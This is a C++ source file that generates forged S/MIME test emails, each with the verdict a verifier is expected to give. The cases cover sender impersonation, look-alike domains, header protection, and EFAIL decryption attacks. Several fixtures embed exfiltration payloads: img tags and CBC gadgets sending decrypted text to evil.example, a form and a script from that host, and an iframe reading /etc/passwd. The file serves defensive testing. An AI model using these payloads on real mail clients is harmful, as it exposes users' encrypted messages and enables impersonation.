// SPDX-License-Identifier: GPL-3.0-or-later
#include "forge/Catalogue.h"
#include "forge/Letters.h"

#include "mime/Header.h"

#include <array>

using namespace Qt::StringLiterals;
using provider::ForgedCipher;
using smime::Identity;
using smime::Summary;

namespace forge {

namespace {

Forgery letterFrom(World &world, const QByteArray &subject, const QByteArray &from, const Person &signer, const Expectation &expected)
{
    const QByteArray words = world.words(subject);
    return {letterhead(world, subject, from) + signedEntity(world, signer, textPart(words)), withText(expected, words)};
}

Expectation impersonated()
{
    Expectation expected = verified();
    expected.summary = Summary::Impersonated;
    smime::SignatureAxes axes = soundAxes();
    axes.identity = Identity::Mismatch;
    setAxes(expected, axes);
    return expected;
}

Forgery twoSenders(World &world)
{
    Expectation expected = impersonated();
    expected.warnings = {u"several-from"_s};
    return letterFrom(world, "Two senders", "Alice <alice@example.org>, Carol <carol@example.org>", world.alice(), expected);
}

Forgery twoFromFields(World &world)
{
    Expectation expected = impersonated();
    expected.warnings = {u"several-from"_s};
    return letterFrom(world, "Two From fields", "Carol <carol@example.org>\r\nFrom: Alice <alice@example.org>", world.alice(), expected);
}

Forgery noSender(World &world)
{
    const QByteArray words = world.words("no sender");
    QByteArray head = letterhead(world, "No sender");
    head.remove(0, head.indexOf("\r\n") + 2);
    smime::SignatureAxes axes = soundAxes();
    axes.identity = Identity::NotChecked;
    Expectation expected = verified();
    expected.summary = Summary::Unverified;
    setAxes(expected, axes);
    expected.warnings = {u"no-from"_s};
    return {head + signedEntity(world, world.alice(), textPart(words)), withText(expected, words)};
}

// Mallory signs as Sender; the author counts.
Forgery otherSender(World &world)
{
    Expectation expected = impersonated();
    expected.warnings = {u"sender-differs"_s};
    return letterFrom(world, "Sent in Alice's name", "Alice <alice@example.org>\r\nSender: Mallory <mallory@example.org>", world.mallory(), expected);
}

// It is Mallory's mail and says so; only the name beside the address deceives.
Forgery nameIsAddress(World &world)
{
    Expectation expected = verified();
    expected.warnings = {u"name-looks-like-address"_s};
    return letterFrom(world, "A name that looks like an address", "\"alice@example.org\" <mallory@example.org>", world.mallory(), expected);
}

Forgery nameIsEncodedAddress(World &world)
{
    Expectation expected = verified();
    expected.warnings = {u"name-looks-like-address"_s};
    return letterFrom(world, "An encoded word that looks like an address", "=?utf-8?q?alice=40example=2Eorg?= <mallory@example.org>", world.mallory(),
                      expected);
}

Forgery commentIsAddress(World &world)
{
    Expectation expected = impersonated();
    expected.warnings = {u"name-looks-like-address"_s}; // a comment is a name where there is none
    return letterFrom(world, "A comment that holds an address", "alice@example.org(<mallory@example.org>)", world.mallory(), expected);
}

Forgery lookAlike(World &world)
{
    Wish wish;
    wish.id = "lookalike";
    wish.addresses = {u"alice@ex\u0430mple.org"_s}; // a Cyrillic letter in the second place
    Expectation expected = verified();
    expected.warnings = {u"look-alike-domain"_s};
    return letterFrom(world, "Look-alike domain", "Alice <alice@xn--exmple-4nf.org>", world.person(wish), expected);
}

QByteArray withHeaders(const QByteArray &hp, const QByteArray &fields, const QByteArray &text)
{
    return "Content-Type: text/plain; charset=utf-8; hp=\"" + hp + "\"\r\n" + fields + "\r\n" + text + "\r\n";
}

QByteArray innerFields(const World &world, const QByteArray &subject, const QByteArray &from = "Alice <alice@example.org>")
{
    QByteArray fields = letterhead(world, subject, from);
    return fields.remove(fields.indexOf("MIME-Version"), 100);
}

Forgery outerSubjectChanged(World &world)
{
    const QByteArray words = world.words("outer subject");
    const QByteArray entity = withHeaders("clear", innerFields(world, "The signed subject"), words);
    QByteArray head = letterhead(world, "The signed subject");
    head.replace("The signed subject", "Pay Mallory");
    Expectation expected = verified();
    expected.subject = u"The signed subject"_s;
    expected.warnings = {u"outer-header-differs"_s};
    return {head + signedEntity(world, world.alice(), entity), withText(expected, words)};
}

Forgery hiddenSubject(World &world)
{
    const QByteArray words = world.words("hidden subject");
    QByteArray outer = innerFields(world, "The hidden subject");
    outer.replace("Subject: The hidden subject", "Subject: [...]");
    QByteArray recorded;
    for (const mime::HeaderField &field : mime::parseHeaders(outer).fields)
        recorded += "HP-Outer: " + field.name + ": " + field.value + "\r\n";
    const QByteArray entity = withHeaders("cipher", innerFields(world, "The hidden subject") + recorded, words);
    Expectation expected = inside(decrypted(), verified());
    expected.subject = u"The hidden subject"_s;
    return {outer + "MIME-Version: 1.0\r\n" + cmsPart(encryptedForBob(world, signedEntity(world, world.alice(), entity)), "authEnveloped-data"),
            withText(expected, words)};
}

// Carol takes a letter to her out of its encryption and encrypts it for Bob: the signature is as good as before.
Forgery passedOn(World &world)
{
    const QByteArray words = world.words("passed on");
    QByteArray fields = innerFields(world, "For Carol alone");
    fields.replace("Bob <bob@example.org>", "Carol <carol@example.org>");
    const QByteArray entity = signedEntity(world, world.alice(), withHeaders("clear", fields, words));
    Expectation expected = inside(decrypted(), verified());
    expected.warnings = {u"addressed-to-others"_s, u"outer-header-differs"_s};
    return {letterhead(world, "For Carol alone") + cmsPart(encryptedForBob(world, entity), "authEnveloped-data"), withText(expected, words)};
}

// RFC 9788 section 4.4: without a signature that is bound to it the inner From is anybody's invention.
Forgery innerSenderInvented(World &world)
{
    const QByteArray words = world.words("inner sender");
    const QByteArray from = "Mallory <mallory@example.org>";
    QByteArray recorded;
    for (const mime::HeaderField &field : mime::parseHeaders(innerFields(world, "Invented sender", from)).fields)
        recorded += "HP-Outer: " + field.name + ": " + field.value + "\r\n";
    const QByteArray entity = withHeaders("cipher", innerFields(world, "Invented sender") + recorded, words);
    Expectation expected = decrypted();
    expected.from = u"Mallory <mallory@example.org>"_s;
    expected.warnings = {u"from-not-bound"_s};
    return {letterhead(world, "Invented sender", from) + cmsPart(encryptedForBob(world, entity), "authEnveloped-data"), withText(expected, words)};
}

Forgery wrappedMessage(World &world)
{
    const QByteArray words = world.words("wrapped");
    const QByteArray head = letterhead(world, "A whole message inside");
    const QByteArray entity = "Content-Type: message/rfc822; forwarded=no\r\n\r\n" + head + textPart(words);
    Expectation expected = verified();
    expected.subject = u"A whole message inside"_s;
    return {head + signedEntity(world, world.alice(), entity), withText(expected, words)};
}

// EFAIL, direct exfiltration: a reader that joins the parts sends the secret to evil.example.
Forgery exfiltration(World &world)
{
    const QByteArray words = world.words("exfiltration");
    const QByteArray secret = cmsPart(encryptedForBob(world, textPart(words), ForgedCipher::Aes256Cbc), "enveloped-data");
    Expectation expected = decryptedCbc();
    expected.warnings = {u"encrypted-part"_s, u"not-authenticated"_s};
    expected.unprotectedParts = 2;
    expected.isTextOnly = true;
    return {letterhead(world, "EFAIL, parts around the ciphertext")
                + multipart("mixed", {htmlPart("<img src=\"http://evil.example/"), secret, htmlPart("\">")}),
            withText(expected, words)};
}

Forgery twoSecrets(World &world)
{
    const QByteArray words = world.words("first secret");
    const auto secret = [&world](const QByteArray &text) { return cmsPart(encryptedForBob(world, textPart(text)), "authEnveloped-data"); };
    Expectation expected = decrypted();
    expected.warnings = {u"encrypted-part"_s, u"further-part"_s};
    expected.unprotectedParts = 1;
    return {letterhead(world, "Two secrets in one letter")
                + multipart("mixed", {secret(words), textPart(world.words("between")), secret(world.words("second secret"))}),
            withText(expected, words)};
}

// EFAIL, malleability gadget: what decryption gives was chosen by the attacker in part, and nothing of it may be rendered.
Forgery gadgets(World &world)
{
    provider::ForgedRecipient bob;
    bob.certificate = world.bob().certificate;
    bob.transport = provider::RsaKeyTransport::Pkcs1;
    provider::ForgedEnvelope envelope;
    envelope.content = htmlPart("<p>" + world.words("gadget") + "</p>");
    envelope.cipher = ForgedCipher::Aes256Cbc;
    envelope.recipients = {bob};
    envelope.gadgets = {"Content-type: te", "xt/html\r\n\r\n<img ", " src=http://evil", ".example/?x=\"    "};
    Expectation expected = decryptedCbc();
    expected.isTextOnly = true;
    return {letterhead(world, "EFAIL, blocks put before the ciphertext") + cmsPart(world.take(provider::forgeEnvelope(envelope)), "enveloped-data"), expected};
}

Forgery activeSecret(World &world)
{
    const QByteArray html = "<p>Hello</p><img src=\"http://evil.example/x.png\"><script>alert(1)</script>";
    Expectation expected = decryptedCbc();
    expected.warnings = {u"not-authenticated"_s, u"remote-content-blocked"_s};
    expected.isTextOnly = true;
    return {letterhead(world, "Active HTML in CBC") + cmsPart(encryptedForBob(world, htmlPart(html), ForgedCipher::Aes256Cbc), "enveloped-data"),
            withText(expected, "Hello")};
}

// Covert content: Mallory wraps Alice's ciphertext to Bob into a mail of her own and hopes for a reply that quotes it.
Forgery covert(World &world)
{
    const QByteArray words = world.words("covert");
    const QByteArray secret = cmsPart(encryptedForBob(world, textPart("A secret between Alice and Bob.")), "authEnveloped-data");
    const QByteArray entity = multipart("mixed", {textPart(words), secret}, "forged-inner");
    return {letterhead(world, "Can you read this?", "Mallory <mallory@example.org>") + signedEntity(world, world.mallory(), entity),
            withText(verified(), words)};
}

// Mallory has caught what Alice wrote to Bob and encrypts it once more.
Forgery encryptedTwice(World &world)
{
    const QByteArray words = world.words("caught");
    const QByteArray caught = cmsPart(encryptedForBob(world, textPart(words)), "authEnveloped-data");
    Expectation expected = withText(decrypted(), words);
    expected.layers.append(expected.layers.first());
    return {letterhead(world, "Can you read this?", "Mallory <mallory@example.org>") + cmsPart(encryptedForBob(world, caught), "authEnveloped-data"), expected};
}

// The signer of a file is not the sender of the letter that brings it.
Forgery signedFile(World &world)
{
    const QByteArray words = world.words("invoice");
    provider::ForgedSignedData invoice = signedBy(world, {world.mallory()}, "<?xml version=\"1.0\"?><invoice/>");
    invoice.embedded = invoice.content;
    const QByteArray file = base64Part("application/pkcs7-mime; name=\"invoice.xml.p7m\"", world.take(provider::forgeSignedData(invoice)));
    return {letterhead(world, "Your invoice") + multipart("mixed", {textPart(words), file}), withText({}, words)};
}

// What a list does with mail that was signed by other means.
Forgery otherProtocolInList(World &world)
{
    const QByteArray words = world.words("list");
    const QByteArray letter = "Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=\"forged-pgp\"\r\n\r\n--forged-pgp\r\n"
        + textPart(words) + "\r\n--forged-pgp\r\nContent-Type: application/pgp-signature\r\n\r\nnone\r\n--forged-pgp--\r\n";
    return {letterhead(world, "By other means") + multipart("mixed", {letter}), withText({}, words)};
}

Forgery forwarded(World &world)
{
    const QByteArray words = world.words("forwarded");
    const QByteArray inner = letterhead(world, "The original") + signedEntity(world, world.alice(), textPart("Signed by Alice."));
    return {letterhead(world, "Look what Alice wrote", "Mallory <mallory@example.org>")
                + multipart("mixed", {textPart(words), "Content-Type: message/rfc822\r\n\r\n" + inner}),
            withText({}, words)};
}

Forgery remoteContent(World &world)
{
    const QByteArray html = "<p>Hello</p><img src=\"https://tracker.example/1.png\"><form action=\"https://evil.example\"><input name=pin></form>"
                            "<script src=\"https://evil.example/x.js\"></script><iframe src=\"file:///etc/passwd\"></iframe>";
    Expectation expected = verified();
    expected.warnings = {u"remote-content-blocked"_s};
    return {letterhead(world, "Signed HTML with remote content") + signedEntity(world, world.alice(), htmlPart(html)), expected};
}

Forgery receipt(World &world)
{
    const QByteArray words = world.words("receipt");
    Expectation expected = verified();
    expected.warnings = {u"receipt-requested"_s};
    return {"Disposition-Notification-To: tracker@example.net\r\n" + letterhead(world, "Asks for a read receipt")
                + signedEntity(world, world.alice(), textPart(words)),
            withText(expected, words)};
}

Forgery imitation(World &world)
{
    const QByteArray text = "\xe2\x9c\x94 Verified: signed by Alice, certificate of the Forge Authority.\r\n\r\n" + world.words("imitation");
    QByteArray shown = text;
    return {letterhead(world, "A banner in the text") + textPart(text), withText({}, shown.replace("\r\n", "\n"))};
}

Forgery otherProtocol(World &world)
{
    const QByteArray words = world.words("protocol");
    QByteArray entity = signedEntity(world, world.alice(), textPart(words));
    entity.replace("application/pkcs7-signature", "application/pgp-signature");
    return {letterhead(world, "Signed in another language") + entity, withText({}, words)};
}

constexpr auto kRecipes = std::to_array<Recipe>({
    {"two-senders", "From names Alice and Carol, Alice alone signed: impersonated.", &twoSenders},
    {"two-from-fields", "Two From fields, of which readers show the one or the other: impersonated.", &twoFromFields},
    {"sender-differs", "Mallory signs as Sender of a letter from Alice: impersonated.", &otherSender},
    {"no-sender", "No From at all, so the signer cannot be compared with anybody: unverified.", &noSender},
    {"name-looks-like-address", "Mallory's display name is Alice's address: verified for Mallory, with a warning.", &nameIsAddress},
    {"encoded-name-looks-like-address", "The same in an encoded word: verified for Mallory, with a warning.", &nameIsEncodedAddress},
    {"comment-with-address", "From is alice, with Mallory's address in a comment, and Mallory signed: impersonated.", &commentIsAddress},
    {"look-alike-domain", "The sender's domain has a Cyrillic letter, and an honest certificate: verified for that domain, with a warning.", &lookAlike},
    {"outer-subject-changed", "hp=clear (RFC 9788): the signed subject counts, the changed outer one is a warning: verified.", &outerSubjectChanged},
    {"hidden-subject", "hp=cipher (RFC 9788): the subject is inside: verified.", &hiddenSubject},
    {"passed-on", "Signed for Carol, who encrypted it for Bob (surreptitious forwarding): verified, with a warning.", &passedOn},
    {"invented-inner-sender", "hp=cipher without signature (RFC 9788 section 4.4): the outer From is shown, with a warning.", &innerSenderInvented},
    {"wrapped-message", "message/rfc822 inside the signature (RFC 8551 section 3.1): verified, the inner subject counts.", &wrappedMessage},
    {"efail-exfiltration", "EFAIL: HTML before and after the ciphertext would carry the secret away: decrypted, never joined.", &exfiltration},
    {"two-encrypted-parts", "Two ciphertexts in one multipart: decrypted, each by itself, never joined.", &twoSecrets},
    {"efail-gadget", "EFAIL: chosen blocks before the CBC ciphertext: decrypted, never rendered.", &gadgets},
    {"efail-active-html", "HTML out of a cipher that does not authenticate: decrypted, as text only.", &activeSecret},
    {"covert-content", "Somebody else's ciphertext inside a signed mail stays closed: verified for Mallory.", &covert},
    {"encrypted-twice", "Somebody else's ciphertext, encrypted once more: decrypted, both layers are shown.", &encryptedTwice},
    {"signed-file", "The letter brings an invoice that somebody signed as a file (.p7m): plain, with an attachment.", &signedFile},
    {"forwarded-signed", "A forwarded signed mail lends its seal to nobody: plain.", &forwarded},
    {"signed-remote-content", "Signed HTML with remote content, a form and a script: verified, and nothing of that is loaded.", &remoteContent},
    {"read-receipt", "A read receipt is asked for: shown, not answered: verified.", &receipt},
    {"banner-in-text", "The text imitates a verdict: plain.", &imitation},
    {"other-protocol-in-list", "The same below a list's multipart: plain, and its text is read.", &otherProtocolInList},
    {"other-protocol", "multipart/signed whose protocol is OpenPGP's: plain, never S/MIME.", &otherProtocol},
});

} // namespace

std::span<const Recipe> deceptionRecipes()
{
    return kRecipes;
}

} // namespace forge
